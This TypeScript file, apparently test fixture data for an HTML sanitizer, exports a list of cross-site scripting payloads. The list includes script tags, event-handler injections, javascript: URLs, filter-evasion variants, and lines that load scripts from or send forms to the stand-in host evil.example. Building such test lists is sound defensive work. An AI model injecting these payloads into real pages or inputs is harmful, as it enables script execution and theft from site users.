/** Sixty texts that would act if a page took them for more than text. */
export const MARKUP: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img/src/onerror=alert(1)>
<IMG SRC="javascript:alert(1)">
<img src=x onerror=&#97;lert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)">x</a></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><set onbegin=alert(1)>
<svg><use href="data:image/svg+xml,x"/></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<iframe/onload=alert(1)>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example)}</style>
<div style="background:url(javascript:alert(1))">x</div>
<a href="javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example" target=_top>x</a>
<form action="//evil.example"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<p onmouseover=alert(1)>x</p>
<x onclick=alert(1)>x</x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
" onmouseover="alert(1)" x="
' autofocus onfocus='alert(1)
javascript:alert(1)//
{{constructor.constructor('alert(1)')()}}
`
  .trim()
  .split("\n");
